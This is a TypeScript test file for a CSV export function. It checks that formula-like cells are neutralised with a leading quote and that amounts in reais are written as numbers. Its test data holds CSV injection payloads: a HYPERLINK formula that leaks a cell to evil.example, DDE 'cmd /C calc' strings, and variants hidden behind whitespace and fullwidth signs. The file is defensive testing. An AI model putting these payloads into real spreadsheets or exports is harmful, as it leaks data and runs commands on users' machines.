import { describe, expect, it } from "vitest";
import { neutraliseCell, spreadsheetCsv } from "./spreadsheet-csv.ts";

/** OWASP's CSV injection examples, and the same starts hidden behind what spreadsheets skip. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Clique aqui")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\n\t -1+1",
  "\u00a0@SUM(1)",
  "＝1+1",
  "＋1",
];

/** Text that only looks close: left as typed. */
const PLAIN = ["Maria da Silva", "São João", "a=b", "ana@example.com", "R$ -10,00", "1+1", "'=já citado", ""];

describe("neutraliseCell", () => {
  it("puts a single quote before every formula-like start", () => {
    for (const formula of FORMULAS) expect(neutraliseCell(formula), JSON.stringify(formula)).toBe(`'${formula}`);
  });

  it("leaves other text as typed", () => {
    for (const text of PLAIN) expect(neutraliseCell(text), JSON.stringify(text)).toBe(text);
  });
});

describe("spreadsheetCsv", () => {
  const decode = (csv: string) => csv.replace(/^\uFEFF/, "").split("\r\n");

  it("writes ; separated UTF-8 with a BOM and CRLF, and no cell that runs as a formula", () => {
    const csv = spreadsheetCsv(
      ["Cliente", "Total (R$)"],
      FORMULAS.map((formula) => [formula, { cents: 1000 }]),
    );
    expect(csv.startsWith("\uFEFFCliente;Total (R$)\r\n")).toBe(true);
    for (const line of decode(csv).slice(1, -1)) {
      // A cell may be wrapped in quotes (it holds a quote, a ; or a line break): its first character inside still is '.
      expect(line.replace(/^"/, ""), JSON.stringify(line)).toMatch(/^'/);
    }
  });

  it("writes the product's own numbers as numbers: amounts in reais with a comma, negative ones too", () => {
    const csv = spreadsheetCsv(
      ["Número", "Valor (R$)", "Texto"],
      [
        [1001, { cents: -1000 }, "-10,00"],
        [1002, { cents: 123456 }, "x"],
        [1003, { cents: -5 }, "y"],
        [1004, { cents: 0 }, "z"],
      ],
    );
    expect(decode(csv).slice(1, -1)).toEqual(["1001;-10,00;'-10,00", "1002;1234,56;x", "1003;-0,05;y", "1004;0,00;z"]);
  });

  it("refuses a number that is not whole cents: a bug upstream, never a silent rounding", () => {
    expect(() => spreadsheetCsv(["Valor"], [[{ cents: 10.5 }]])).toThrow(RangeError);
    expect(() => spreadsheetCsv(["Unidades"], [[Number.NaN]])).toThrow(RangeError);
  });
});
